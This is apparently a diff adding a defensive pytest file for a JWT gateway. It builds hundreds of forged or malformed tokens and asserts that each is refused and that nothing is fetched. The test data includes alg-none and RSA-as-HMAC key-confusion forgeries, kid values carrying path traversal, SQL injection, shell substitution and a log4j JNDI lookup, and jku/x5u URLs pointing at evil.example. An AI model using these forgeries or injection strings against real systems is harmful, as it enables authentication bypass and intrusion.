@@ -1,0 +1,577 @@
+"""A corpus of hostile tokens: every class is refused with its own reason, and nothing is fetched or opened for any.
+
+Each case is one step away from a token that is taken (the first test shows those), and is signed as well as its class
+allows: a case that would be refused for something else would prove nothing.
+"""
+
+from __future__ import annotations
+
+import base64
+import hashlib
+import hmac
+import json
+import sys
+import time
+from collections.abc import Callable
+from dataclasses import dataclass
+from typing import Any
+
+import pytest
+from cryptography.hazmat.primitives import hashes, serialization
+from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa
+from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
+
+from edged.access.admissions import Admissions
+from edged.access.gate import Gate
+from edged.access.ledger import Ledger
+from edged.clock import Clock
+from edged.credentials.callers import Token
+from edged.credentials.claims import Trust
+from edged.credentials.decision import Reason
+from edged.credentials.signing_keys import VerifyingKey, read_key
+from edged.credentials.tokens import DEEPEST, LONGEST_TOKEN, PUBLISHED_SECRETS, SharedSecret
+from edged.errors import Refused
+
+NOW = 2_000_000_000
+TEXT = "c2hhcmVkIHNlY3JldCBvZiB0aGUgY29ycHVzIG9mIHRva2Vucw=="
+ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
+
+RSA = rsa.generate_private_key(65537, 2048)
+EC = ec.generate_private_key(ec.SECP256R1())
+OTHER_RSA = rsa.generate_private_key(65537, 2048)
+OTHER_EC = ec.generate_private_key(ec.SECP256R1())
+
+
+def b64(data: bytes) -> str:
+    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()
+
+
+def unb64(text: str) -> bytes:
+    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))
+
+
+def raw(value: object) -> bytes:
+    return value if isinstance(value, bytes) else json.dumps(value).encode()
+
+
+Signer = Callable[[bytes], bytes]
+
+
+def hs(key: bytes | str = TEXT, digest: str = "sha256") -> Signer:
+    return lambda data: hmac.digest(key.encode() if isinstance(key, str) else key, data, digest)
+
+
+def rs(key: rsa.RSAPrivateKey = RSA, digest: hashes.HashAlgorithm | None = None) -> Signer:
+    return lambda data: key.sign(data, padding.PKCS1v15(), digest or hashes.SHA256())
+
+
+def ps(key: rsa.RSAPrivateKey = RSA) -> Signer:
+    salted = padding.PSS(padding.MGF1(hashes.SHA256()), 32)
+    return lambda data: key.sign(data, salted, hashes.SHA256())
+
+
+def es(key: ec.EllipticCurvePrivateKey = EC, *, high: bool = False) -> Signer:
+    def sign(data: bytes) -> bytes:
+        r, s = decode_dss_signature(key.sign(data, ec.ECDSA(hashes.SHA256())))
+        low = min(s, ORDER - s)
+        return r.to_bytes(32) + (ORDER - low if high else low).to_bytes(32)
+
+    return sign
+
+
+def craft(header: object, payload: object, signer: Signer) -> str:
+    signed = f"{b64(raw(header))}.{b64(raw(payload))}"
+    return f"{signed}.{b64(signer(signed.encode()))}"
+
+
+def jwk_of(key: rsa.RSAPrivateKey | ec.EllipticCurvePrivateKey) -> dict[str, str]:
+    """The public JWK, by hand."""
+    numbers = key.public_key().public_numbers()
+    if isinstance(numbers, rsa.RSAPublicNumbers):
+        parts = {"n": numbers.n.to_bytes(256), "e": numbers.e.to_bytes(3)}
+        return {"kty": "RSA", **{name: b64(value) for name, value in parts.items()}}
+    return {"kty": "EC", "crv": "P-256", "x": b64(numbers.x.to_bytes(32)), "y": b64(numbers.y.to_bytes(32))}
+
+
+HS = {"alg": "HS256", "typ": "JWT"}
+RS = {"alg": "RS256", "typ": "JWT", "kid": "key-1"}
+ES = {"alg": "ES256", "typ": "JWT", "kid": "key-2"}
+CLAIMS: dict[str, Any] = {"sub": "ann", "role": "viewer", "exp": NOW + 600, "iat": NOW, "jti": "one"}
+OWN = CLAIMS | {"iss": "edged"}
+#: The three kinds of token that are taken: header, claims, signer.
+KINDS: dict[str, tuple[dict[str, Any], dict[str, Any], Signer]] = {
+    "shared": (HS, CLAIMS, hs()),
+    "rsa": (RS, OWN, rs()),
+    "ec": (ES, OWN, es()),
+}
+OURS = Trust(frozenset({"edged"}), frozenset(), needs_issuer=True)
+KEYS = {
+    "key-1": VerifyingKey("key-1", "RS256", read_key(jwk_of(RSA)), OURS),
+    "key-2": VerifyingKey("key-2", "ES256", read_key(jwk_of(EC)), OURS),
+}
+
+
+def with_header(**members: object) -> list[str]:
+    """Each kind of token, well signed, with these members in its header."""
+    return [craft({**header, **members}, claims, sign) for header, claims, sign in KINDS.values()]
+
+
+def with_claims(**members: object) -> list[str]:
+    """Each kind of token, well signed, with these members among its claims; None takes one away."""
+    changed = [
+        (header, {name: value for name, value in {**claims, **members}.items() if value is not None}, sign)
+        for header, claims, sign in KINDS.values()
+    ]
+    return [craft(*parts) for parts in changed]
+
+
+def with_payload(*payloads: bytes) -> list[str]:
+    """Each kind of token, well signed, over these very bytes."""
+    return [craft(header, payload, sign) for header, _, sign in KINDS.values() for payload in payloads]
+
+
+def each(member: str, *values: object) -> list[str]:
+    return [text for value in values for text in with_claims(**{member: value})]
+
+
+def pem(key: Any, kind: str = "SubjectPublicKeyInfo", encoding: str = "PEM") -> bytes:
+    public = serialization.PublicFormat
+    form = {"SubjectPublicKeyInfo": public.SubjectPublicKeyInfo, "PKCS1": public.PKCS1, "OpenSSH": public.OpenSSH}
+    return bytes(key.public_key().public_bytes(getattr(serialization.Encoding, encoding), form[kind]))
+
+
+def public_forms(key: Any) -> list[bytes]:
+    """Everything that somebody might take for the HMAC secret when the public key is known."""
+    spki = pem(key)
+    forms = [
+        spki, spki.strip(), spki.replace(b"\n", b"\r\n"), b"".join(spki.splitlines()[1:-1]),
+        pem(key, encoding="DER"), pem(key, "OpenSSH", "OpenSSH"), json.dumps(jwk_of(key)).encode(),
+        json.dumps(jwk_of(key), separators=(",", ":")).encode(), b64(pem(key, encoding="DER")).encode(),
+    ]  # fmt: skip
+    return forms + ([pem(key, "PKCS1")] if isinstance(key, rsa.RSAPrivateKey) else [])
+
+
+def private_forms(key: Any) -> list[bytes]:
+    plain = serialization.NoEncryption()
+    return [
+        key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, plain),
+        key.private_bytes(serialization.Encoding.DER, serialization.PrivateFormat.PKCS8, plain),
+    ]
+
+
+GOOD = {name: craft(*parts) for name, parts in KINDS.items()}
+DUPLICATES = [
+    b'"exp":%d,"exp":%d' % (NOW + 600, NOW + 601), b'"exp":1,"exp":%d' % (NOW + 600), b'"exp":%d,"exp":1' % (NOW + 600),
+    b'"exp":%d,"\\u0065xp":%d' % (NOW + 600, NOW + 600), b'"exp":%d,"role":"viewer","role":"admin"' % (NOW + 600),
+    b'"exp":%d,"sub":"eve"' % (NOW + 600), b'"exp":%d,"deep":{"a":1,"a":1}' % (NOW + 600),
+    b'"exp":%d,"deep":[[{"a":1,"b":2,"a":1}]]' % (NOW + 600),
+]  # fmt: skip
+
+
+def swap_last(text: str, part: int) -> str:
+    """The same token with other unused bits in the last character of a part."""
+    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
+    parts = text.split(".")
+    last = alphabet.index(parts[part][-1])
+    parts[part] = parts[part][:-1] + alphabet[last + 1]
+    return ".".join(parts)
+
+
+def ending(length: int) -> dict[str, Any]:
+    """Claims whose JSON has a length that leaves unused bits: `length` modulo 3."""
+    for pad in range(3):
+        claims = CLAIMS | {"pad": "x" * pad}
+        if len(json.dumps(claims)) % 3 == length:
+            return claims
+    raise AssertionError
+
+
+def resign(text: str, part: int, sign: Signer) -> str:
+    """The token with a part in another spelling, signed anew over that spelling."""
+    head, body, _ = swap_last(text, part).split(".")
+    return f"{head}.{body}.{b64(sign(f'{head}.{body}'.encode()))}"
+
+
+def signature_of(kind: str, signature: bytes) -> str:
+    return f"{GOOD[kind].rpartition('.')[0]}.{b64(signature)}"
+
+
+def flattened(text: str) -> str:
+    head, body, tail = text.split(".")
+    return json.dumps({"protected": head, "payload": body, "signature": tail})
+
+
+PADDED = craft(HS, ending(1), hs())
+NESTED = json.dumps({"sub": "ann", "role": "viewer", "exp": NOW + 600})[:-1]
+M, A, S, U, E = (
+    Reason.MALFORMED, Reason.ALG_NOT_ALLOWED, Reason.BAD_SIGNATURE, Reason.UNKNOWN_KEY, Reason.EXPIRED
+)  # fmt: skip
+KID_TRICKS = [
+    "../../../../dev/null", "/dev/null", "/proc/self/environ", "file:///etc/passwd", "key-1.pem", "key-1\x00", "key-1 ",
+    " key-1", "key-1\n", "key-1' OR '1'='1", "x' UNION SELECT 'secret", "http://127.0.0.1/key", "//evil.example/key",
+    "key-1;id", "$(id)", "|id", "${jndi:ldap://evil.example/x}", "%2e%2e%2f", "ключ-1", "key-¹", "", "k" * 65, "*", "%",
+    0, 1, None, True, ["key-1"], {"kid": "key-1"},
+]  # fmt: skip
+
+#: Class → the reason, and its cases.
+CORPUS: dict[str, tuple[Reason, list[str]]] = {
+    "alg none": (A, [
+        text for alg in ("none", "None", "NONE", "nOnE", "none ")
+        for text in (craft({"alg": alg, "typ": "JWT"}, CLAIMS, lambda _: b""), craft({"alg": alg}, CLAIMS, hs()),
+                     craft({**RS, "alg": alg}, OWN, lambda _: b""))
+    ]),
+    "alg left out": (A, [
+        craft({"typ": "JWT"}, CLAIMS, hs()), craft({"kid": "key-1"}, OWN, rs()), craft({}, OWN, es()),
+    ]),
+    "alg of another type": (A, [
+        craft({"alg": alg}, CLAIMS, hs()) for alg in (None, True, 0, 256, ["HS256"], [], {}, {"HS256": 1}, 1.5)
+    ]),
+    "alg in another spelling": (A, [
+        craft({"alg": alg}, CLAIMS, hs()) for alg in ("hs256", "Hs256", "HS256 ", " HS256", "HS-256", "HS256\x00", "")
+    ]),
+    "alg of the same family": (A, [
+        craft({"alg": "HS384"}, CLAIMS, hs(digest="sha384")), craft({"alg": "HS512"}, CLAIMS, hs(digest="sha512")),
+        craft({**RS, "alg": "RS384"}, OWN, rs(digest=hashes.SHA384())),
+        craft({**RS, "alg": "RS512"}, OWN, rs(digest=hashes.SHA512())), craft({**RS, "alg": "PS256"}, OWN, ps()),
+    ]),
+    "alg that we never use": (A, [
+        craft({"alg": alg, "kid": "key-1"}, OWN, rs())
+        for alg in ("EdDSA", "Ed25519", "ES384", "ES512", "ES256K", "PS512", "A128KW", "dir", "RSA1_5", "RSA-OAEP")
+    ]),
+    "RSA public key as HMAC secret, with its kid": (A, [
+        craft({**RS, "alg": "HS256"}, OWN, hs(form)) for form in public_forms(RSA)
+    ]),
+    "RSA public key as HMAC secret, without a kid": (S, [craft(HS, CLAIMS, hs(form)) for form in public_forms(RSA)]),
+    "EC public key as HMAC secret, with its kid": (A, [
+        craft({**ES, "alg": "HS256"}, OWN, hs(form)) for form in public_forms(EC)
+    ]),
+    "EC public key as HMAC secret, without a kid": (S, [craft(HS, CLAIMS, hs(form)) for form in public_forms(EC)]),
+    "private key as HMAC secret": (S, [
+        craft(HS, CLAIMS, hs(form)) for key in (RSA, EC) for form in private_forms(key)
+    ]),
+    "shared secret under a key pair's kid": (A, [
+        craft({**HS, "kid": "key-1"}, OWN, hs()), craft({**HS, "kid": "key-2"}, OWN, hs()),
+    ]),
+    "key of another kind": (A, [
+        craft({**RS, "kid": "key-2"}, OWN, rs()), craft({**ES, "kid": "key-1"}, OWN, es()),
+        craft({**RS, "kid": "key-2"}, OWN, hs()), craft({**ES, "kid": "key-1"}, OWN, hs()),
+    ]),
+    "key pair without a kid": (A, [
+        craft({"alg": "RS256"}, OWN, rs()), craft({"alg": "ES256"}, OWN, es()),
+        craft({"alg": "RS256", "typ": "JWT"}, OWN, hs()),
+    ]),
+    "kid that nobody has": (U, [
+        craft({**header, "kid": kid}, OWN, sign)
+        for kid in ("key-0", "key-3", "key-999", "KEY-1", "key_1", "key-01", "1", "-1")
+        for header, sign in ((RS, rs()), (ES, es()))
+    ]),
+    "kid as a path, a query, a command or another type": (M, [
+        craft({**header, "kid": kid}, claims, sign) for kid in KID_TRICKS for header, claims, sign in KINDS.values()
+    ]),
+    "kid of an empty file": (M, [craft({**HS, "kid": kid}, CLAIMS, hs(b"")) for kid in ("/dev/null", "../empty", "")]),
+    "empty HMAC key": (S, [craft(HS, CLAIMS, hs(b"")), craft({**HS, "kid": "any"}, CLAIMS, hs(b""))]),
+    "zeros as HMAC key": (S, [craft(HS, CLAIMS, hs(bytes(size))) for size in (1, 65, 256)]),
+    "published or guessable secret": (S, [
+        craft(HS, CLAIMS, hs(word)) for word in (*sorted(PUBLISHED_SECRETS), "secret", "password", "edged", "changeme")
+    ]),
+    "shared secret in another spelling": (S, [
+        craft(HS, CLAIMS, hs(form)) for form in (
+            base64.b64decode(TEXT), TEXT + "\n", TEXT[:-1], TEXT + " ", TEXT.lower(), TEXT.encode("utf-16"),
+            TEXT.encode().hex(),
+        )
+    ]),
+    "jku": (M, [text for url in ("https://evil.example/jwks.json", "http://127.0.0.1:3000/jwks-path", "file:///x", "")
+                for text in with_header(jku=url)]),
+    "jwk": (M, [
+        craft({"alg": "RS256", "jwk": jwk_of(OTHER_RSA)}, OWN, rs(OTHER_RSA)),
+        craft({**RS, "jwk": jwk_of(OTHER_RSA)}, OWN, rs(OTHER_RSA)),
+        craft({**ES, "jwk": jwk_of(OTHER_EC)}, OWN, es(OTHER_EC)),
+        craft({**HS, "jwk": {"kty": "oct", "k": b64(b"k" * 32)}}, CLAIMS, hs(b"k" * 32)), *with_header(jwk={}),
+    ]),
+    "x5u": (M, [text for url in ("https://evil.example/cert.pem", "file:///etc/ssl/x.pem")
+                for text in with_header(x5u=url)]),
+    "x5c": (M, [text for chain in ([b64(pem(OTHER_RSA, encoding="DER"))], [], "x") for text in with_header(x5c=chain)]),
+    "x5t": (M, [*with_header(x5t="x"), *with_header(**{"x5t#S256": "x"})]),
+    "crit": (M, [text for crit in (["exp"], ["b64"], [], "exp", ["http://example.com/x"], None)
+                 for text in with_header(crit=crit)]),
+    "unencoded payload": (M, [*with_header(b64=False), *with_header(b64=True), *with_header(b64=False, crit=["b64"])]),
+    "compressed payload": (M, with_header(zip="DEF")),
+    "members of an encrypted token": (M, [*with_header(enc="A256GCM"), *with_header(epk={}), *with_header(p2c=10**9)]),
+    "unknown header member": (M, [text for name in ("foo", "Alg", "ALG", "kid ", "nonce", "url", "iss", "cty", "")
+                                  for text in with_header(**{name: "x"})]),
+    "other type of token": (M, [
+        text for typ in ("dpop+jwt", "JOSE", "JWE", "secevent+jwt", "", "JWT ", 1, None, True, ["JWT"], {})
+        for text in with_header(typ=typ)
+    ]),
+    "header that is no object": (M, [
+        craft(header, CLAIMS, hs()) for header in (b"null", b"[]", b'"HS256"', b"1", b"true", b"[{}]", b"{", b"}", b" ")
+    ]),
+    "header member twice": (M, [
+        craft(header, OWN, sign) for sign in (hs(), rs()) for header in (
+            b'{"alg":"none","alg":"HS256"}', b'{"alg":"HS256","alg":"none"}', b'{"alg":"HS256","alg":"HS256"}',
+            b'{"alg":"RS256","kid":"key-9","kid":"key-1"}', b'{"alg":"HS256","\\u0061lg":"RS256","kid":"key-1"}',
+            b'{"alg":"HS256","typ":"JWT","typ":"JWT"}',
+        )
+    ]),
+    "claim twice": (M, with_payload(*(b'{"iss":"edged","sub":"ann","role":"viewer",' + twice + b"}"
+                                      for twice in DUPLICATES[:4] + DUPLICATES[6:]),
+                                    b'{"iss":"edged","role":"viewer","sub":"ann",' + DUPLICATES[5] + b"}",
+                                    b'{"iss":"edged","sub":"ann",' + DUPLICATES[4] + b"}")),
+    "payload that is no object": (M, with_payload(b"null", b"[]", b'"ann"', b"5", b"true", b"[{}]")),
+    "payload that is no JSON": (M, with_payload(
+        b"{", b"ann", b"{'sub':'ann'}", b'{"sub":"ann",}', b'{"sub":"ann"} x', b'{"sub":"ann"}{}', b'{"sub":"ann"}\x00',
+        b'{/**/"sub":"ann"}', b'{"sub":"a\nb"}', b'{sub:"ann"}', b'{"exp":01}', b'{"exp":+1}', b'{"exp":.5}',
+        b'{"exp":0x10}',
+    )),
+    "numbers that are none": (M, with_payload(*(NESTED.encode() + b',"x":' + number + b"}" for number in (
+        b"NaN", b"Infinity", b"-Infinity", b"1e999", b"-1e999", b"9" * 5000,
+    )))),
+    "deep nesting in the payload": (M, with_payload(*(
+        NESTED.encode() + b',"x":' + b"[" * deep + b"]" * deep + b"}" for deep in (DEEPEST, 100, 1000, 2500)
+    ), b"[" * 5000, b'{"a":' * 1000, NESTED.encode() + b',"x":' + b'[{"a":' * 9 + b"1" + b"}]" * 9 + b"}")),
+    "deep nesting in the header": (M, [
+        craft(b"[" * 5000, CLAIMS, hs()), craft(b'{"alg":' * 800, CLAIMS, hs()),
+        craft(b'{"alg":"HS256","typ":' + b"[" * 500 + b"]" * 500 + b"}", CLAIMS, hs()),
+    ]),
+    "payload that is not UTF-8": (M, with_payload(
+        *(NESTED.encode() + b',"x":"' + bad + b'"}' for bad in (
+            b"\xff", b"\xc0\xaf", b"\xed\xa0\x80", b"\xf8\x88\x80\x80\x80", b"\x80", b"\xe2\x82",
+        )), json.dumps(OWN).encode("utf-16"),
+        json.dumps(OWN).encode("utf-32"), json.dumps(OWN).encode("utf-8-sig"), json.dumps(OWN).encode("utf-16-be"),
+    )),
+    "header that is not UTF-8": (M, [
+        craft(header, CLAIMS, hs()) for header in (
+            b'{"alg":"HS256","typ":"\xff"}', json.dumps(HS).encode("utf-16"), json.dumps(HS).encode("utf-8-sig"),
+        )
+    ]),
+    "half a surrogate pair": (M, with_payload(*(NESTED.encode() + b',"x":"' + half + b'"}' for half in (
+        b"\\ud800", b"\\udfff", b"\\ud83d", b"\\ude00\\ud83d", b"a\\ud800b",
+    )))),
+    "no expiry": (Reason.NO_EXPIRY, [
+        *with_claims(exp=None),
+        *(craft(header, claims | {"exp": None}, sign) for header, claims, sign in KINDS.values()),
+    ]),
+    "expired": (E, each("exp", NOW, NOW - 1, NOW - 0.5, 0, -1, -NOW, -(2**53), 1e-9)),
+    "exp out of range": (M, each("exp", 2**53 + 1, 2**63, 2**64, 10**20, 10**400, -(10**400), 1e300, -1e300)),
+    "exp of another type": (M, each("exp", str(NOW + 600), "", True, False, [NOW + 600], {}, "never", "2099-01-01")),
+    "from the future": (Reason.NOT_YET_VALID, [
+        *each("iat", NOW + 61, NOW + 86400, 2**53), *each("nbf", NOW + 61, NOW + 61.5, NOW + 86400, 2**53),
+    ]),
+    "iat or nbf of another type": (M, [
+        *each("iat", "now", True, [], {}, 10**400), *each("nbf", "now", True, [], {}, 1e300),
+    ]),
+    "subject of another type": (M, [*each("sub", 5, True, ["ann"], {"id": 1}, 1.5), *each("user_id", 5, ["ann"], {})]),
+    "no subject": (M, [*with_claims(sub=None), *each("sub", "")]),
+    "two subjects": (M, each("user_id", "eve", "Ann", "ann ", "\u0430nn")),
+    "subject that cannot be shown": (M, each("sub", "a\x00b", "a\nb", "a\x1b[31mb", "a\x7f", "a\u202eb", "x" * 257)),
+    "role of another type": (M, [*each("role", 1, True, ["admin"], {}), *each("roles", "admin", [1], [None], {}, 5)]),
+    "unknown role": (Reason.ROLE_DENIED, [
+        *each("role", "root", "superadmin", "Admin", "ADMIN", "admin ", "", "*", "service"), *with_claims(role=None),
+    ]),
+    "permissions of another type": (M, each("permissions", "*", 5, True, {}, [5], [None], [["*"]], [{"a": 1}])),
+    "too many or too long permissions": (M, each("permissions", ["camera:read"] * 65, ["c" * 129])),
+    "scope of another type": (M, each("scope", ["camera:read"], 5, True, {})),
+    "cameras of another type": (M, each("camera_access", "*", 5, True, {}, [5], [None], [["*"]], ["c" * 129])),
+    "streams of another type": (M, [
+        *each("mediamtx_permissions", 5, True, "[]"), *each("stream_access", 5, "x", True),
+    ]),
+    "jti of another type": (M, each("jti", 5, True, ["one"], {}, "x" * 257, "a\x00")),
+    "other issuer": (Reason.UNTRUSTED_ISSUER, [
+        *each("iss", "https://evil.example", "edged ", "Edged", "", "edge", "*"),
+        craft(RS, OWN | {"iss": "camera-service"}, rs()), craft(RS, CLAIMS, rs()), craft(ES, CLAIMS, es()),
+    ]),
+    "issuer of another type": (M, each("iss", ["edged"], 5, True, {})),
+    "other audience": (Reason.BAD_AUDIENCE, [
+        *each("aud", "somebody-else", "", [], ["a", "b"], "*", ["*"]),
+        craft(RS, OWN | {"aud": "camera-clients"}, rs()), craft(ES, OWN | {"aud": ["camera-clients"]}, es()),
+    ]),
+    "audience of another type": (M, each("aud", 5, True, {}, [5], [None], ["camera-clients", 5])),
+    "cut short": (M, [
+        GOOD[kind][:length] for kind in KINDS for length in (40, 60, GOOD[kind].index(".") + 1, GOOD[kind].rindex("."))
+    ]),
+    "too few or too many parts": (M, [
+        "", ".", "..", "...", "a.b", "a.b.c.d", "a.b.c.d.e", GOOD["shared"] + ".", "." + GOOD["shared"],
+        GOOD["shared"].replace(".", ""), GOOD["shared"] + "." + GOOD["shared"], "..".join(GOOD["shared"].split(".")),
+    ]),
+    "oversized": (M, [
+        *with_claims(pad="x" * LONGEST_TOKEN), "x" * (LONGEST_TOKEN + 1), ".".join(["A" * 4000] * 3),
+        GOOD["rsa"] + "A" * LONGEST_TOKEN, "." * 10_000_000,
+    ]),
+    "second spelling of base64": (M, [
+        resign(PADDED, 1, hs()), swap_last(PADDED, 2), swap_last(GOOD["rsa"], 2), swap_last(GOOD["ec"], 2),
+        *(resign(craft(header, claims, sign), 0, sign) for header, claims, sign in KINDS.values()
+          if len(json.dumps(header)) % 3),
+    ]),
+    "characters that are no base64url": (M, [
+        *(PADDED.replace(".", pad + ".") + pad for pad in ("=", "==")), PADDED + "\n", PADDED + " ", " " + PADDED,
+        PADDED.replace(".", "\n."), PADDED.replace(".", ".\t"), "Bearer " + PADDED, PADDED + "\x00", PADDED[:-1] + "+",
+        PADDED[:-1] + "/", PADDED.replace(".", "\u3002"), PADDED + "\u200b", PADDED + "\ud800", f"{PADDED}~",
+    ]),
+    "not compact": (M, [
+        flattened(GOOD["shared"]), flattened(GOOD["rsa"]), json.dumps({"signatures": []}), json.dumps(OWN),
+        json.dumps(GOOD["shared"]),
+    ]),
+    "encrypted": (M, ["eyJhbGciOiJkaXIiLCJlbmMiOiJBMTI4R0NNIn0..MTIz.MTIz.MTIz", "a.b.c.d.e",
+                      ".".join([b64(raw({"alg": "RSA1_5", "enc": "A128CBC-HS256"}))] * 5)]),
+    "no signature": (S, [f"{text.rpartition('.')[0]}." for text in GOOD.values()]),
+    "signature of something else": (S, [
+        signature_of("shared", hs()(b"x")), signature_of("rsa", rs()(b"x")), signature_of("ec", es()(b"x")),
+        signature_of("shared", unb64(PADDED.rpartition(".")[2])),
+    ]),
+    "claims changed after signing": (S, [
+        ".".join([text.split(".")[0], b64(raw(OWN | {"role": "admin"})), text.split(".")[2]]) for text in GOOD.values()
+    ]),
+    "header changed after signing": (S, [
+        ".".join([b64(raw({**KINDS[kind][0], "typ": "at+jwt"})), *text.split(".")[1:]]) for kind, text in GOOD.items()
+    ]),
+    "one bit of the signature": (S, [
+        signature_of(kind, bytes([*tail[:at], tail[at] ^ 1, *tail[at + 1:]])) for kind in KINDS
+        for tail in [unb64(GOOD[kind].rpartition(".")[2])] for at in (0, len(tail) // 2 - 1, len(tail) - 1)
+    ]),
+    "signature of another length": (S, [
+        signature_of(kind, change(unb64(GOOD[kind].rpartition(".")[2]))) for kind in KINDS
+        for change in (
+            lambda tail: tail[:-1], lambda tail: tail + b"\0", lambda tail: b"\0" + tail[:32], lambda _: b"\0",
+        )
+    ]),
+    "blank signature": (S, [
+        signature_of("shared", bytes(32)), signature_of("rsa", bytes(256)), signature_of("rsa", bytes(255) + b"\1"),
+        signature_of("rsa", b"\xff" * 256), signature_of("ec", bytes(64)),
+        signature_of("ec", bytes(31) + b"\1" + bytes(32)), signature_of("ec", bytes(63) + b"\1"),
+        signature_of("ec", ORDER.to_bytes(32) + bytes(32)), signature_of("ec", b"\xff" * 32 + bytes(32)),
+    ]),
+    "second form of an ES256 signature": (M, [
+        craft(ES, OWN | {"jti": str(number)}, es(high=True)) for number in range(5)
+    ]),
+    "another key pair under our kid": (S, [craft(RS, OWN, rs(OTHER_RSA)), craft(ES, OWN, es(OTHER_EC))]),
+    "another shared secret": (S, [
+        craft(HS, CLAIMS, hs("k" * 40)), craft({**HS, "kid": "theirs"}, CLAIMS, hs("k" * 40)),
+    ]),
+    "a token in a token": (M, [craft({**HS, "cty": "JWT"}, GOOD["shared"].encode(), hs()),
+                               craft(HS, json.dumps(GOOD["shared"]).encode(), hs())]),
+}  # fmt: skip
+
+
+@dataclass
+class Watched:
+    """What the interpreter says that it reaches for: sockets, names, URLs, files, programs."""
+
+    events: list[str]
+    watching: bool = False
+
+
+@pytest.fixture(scope="module")
+def reached() -> Watched:
+    """An audit hook cannot be taken off again, so it looks at a switch."""
+    watched = Watched([])
+
+    def hook(event: str, _arguments: object) -> None:
+        if watched.watching and event.startswith(("socket.", "urllib.", "http.", "open", "subprocess.", "os.system")):
+            watched.events.append(event)
+
+    sys.addaudithook(hook)
+    return watched
+
+
+class Uncounted:
+    def auth_failed(self, *_: object) -> None: ...
+    def credential_used(self, *_: object) -> None: ...
+
+
+@pytest.fixture
+def gate() -> Gate:
+    clock = Clock(system=lambda: float(NOW), monotonic=time.monotonic)
+    ledger = Ledger()
+    ledger.deny(["jti:gone", f"token:{DENIED_HASH}"])
+    return Gate(
+        ledger, Admissions(monotonic=time.monotonic), clock, Uncounted(),
+        shared_secrets=[SharedSecret("other", "o" * 40), SharedSecret("corpus", TEXT)], find_key=KEYS.get,
+    )  # fmt: skip
+
+
+DENIED = craft(HS, CLAIMS | {"jti": "two"}, hs())
+DENIED_HASH = hashlib.sha256(DENIED.encode()).hexdigest()
+
+
+def reason_of(gate: Gate, text: str) -> str:
+    """Why the gate refuses a token; "" if it does not."""
+    try:
+        gate.authenticate(Token(text), "ws")
+    except Refused as problem:
+        return problem.reason
+    return ""
+
+
+def test_what_the_corpus_is_one_step_away_from_is_taken(gate: Gate) -> None:
+    """Every kind of token, with and without what is optional: without this the corpus would prove nothing."""
+    for text in (*GOOD.values(), PADDED, *with_header(typ="at+jwt"), craft({"alg": "HS256"}, CLAIMS, hs())):
+        assert reason_of(gate, text) == ""
+    assert reason_of(gate, craft({**HS, "kid": "theirs"}, CLAIMS, hs())) == ""
+    for extra in ({"iss": "camera-service"}, {"aud": "camera-clients"}, {"aud": ["a", "camera-clients"]}):
+        assert reason_of(gate, craft(HS, CLAIMS | extra, hs())) == ""
+    for extra in ({"exp": 2**53}, {"exp": NOW + 0.5}, {"iat": NOW + 59}, {"nbf": NOW + 60}, {"user_id": "ann"}):
+        assert [reason_of(gate, text) for text in with_claims(**extra)] == [""] * 3
+    deep = b"[" * (DEEPEST - 1) + b"]" * (DEEPEST - 1)
+    flat = b'"' + b"[{" * 200 + b'"'
+    for value in (deep, flat, b'"\\ud83d\\ude00"', b'[{"a":1},{"a":1}]', b'"\xc3\xa4"', b"1e300"):
+        payload = b'{"iss":"edged","sub":"ann","role":"viewer","exp":%d,"x":%s}' % (NOW + 600, value)
+        for kind in ("rsa", "ec"):
+            assert reason_of(gate, craft(KINDS[kind][0], payload, KINDS[kind][2])) == ""
+
+
+def test_the_corpus_is_large_and_its_cases_differ() -> None:
+    """40 classes and 300 cases at least, no case twice in a class."""
+    assert len(CORPUS) >= 40
+    assert sum(len(cases) for _, cases in CORPUS.values()) >= 300
+    assert all(cases for _, cases in CORPUS.values())
+    # RSA and HMAC signatures are the same each time, so that a doubled case would show here.
+    assert [name for name, (_, cases) in CORPUS.items() if len(set(cases)) != len(cases)] == []
+
+
+@pytest.mark.parametrize("name", CORPUS)
+def test_every_case_is_refused_for_its_own_reason(gate: Gate, reached: Watched, name: str) -> None:
+    """Through the gate, as any door asks it; and nothing was fetched, opened or run for it."""
+    reason, cases = CORPUS[name]
+    reason_of(gate, GOOD["rsa"])
+    reached.events.clear()
+    reached.watching = True
+    try:
+        found = [reason_of(gate, text) for text in cases]
+    finally:
+        reached.watching = False
+    wrong = {text[:400]: told for text, told in zip(cases, found, strict=True) if told != reason}
+    assert wrong == {}
+    assert reached.events == []
+
+
+def test_the_watch_sees_what_it_watches_for(reached: Watched, tmp_path: Any) -> None:
+    """The hook that counts nothing above does count."""
+    reached.events.clear()
+    reached.watching = True
+    try:
+        (tmp_path / "file").write_text("x")
+    finally:
+        reached.watching = False
+    assert "open" in reached.events
+
+
+@pytest.mark.parametrize("kind", KINDS)
+def test_a_revoked_token_stays_revoked_in_every_spelling(gate: Gate, kind: str) -> None:
+    """By its jti, by the hash of its text, and with everything that its key signed; before expiry is looked at."""
+    header, claims, sign = KINDS[kind]
+    assert reason_of(gate, craft(header, claims | {"jti": "gone"}, sign)) == "revoked"
+    assert reason_of(gate, DENIED) == "revoked"
+    for spelled in (swap_last(DENIED, 2), DENIED + "=", f"{DENIED}\n"):
+        assert reason_of(gate, spelled) == "malformed"
+    if kind != "shared":
+        assert reason_of(gate, craft(header, claims | {"jti": "three"}, sign)) == ""
+        gate._ledger.deny([f"signing_key:{header['kid']}"])
+        assert reason_of(gate, craft(header, claims | {"jti": "three"}, sign)) == "revoked"
+        assert reason_of(gate, craft(header, claims | {"jti": "four"}, sign)) == "revoked"
+
+
+def test_without_key_pairs_no_kid_is_known(gate: Gate) -> None:
+    """The same good tokens at a gate that holds other keys."""
+    gate._find_key = {"key-1": KEYS["key-2"]}.get
+    assert reason_of(gate, GOOD["rsa"]) == "alg_not_allowed"
+    assert reason_of(gate, GOOD["ec"]) == "unknown_key"
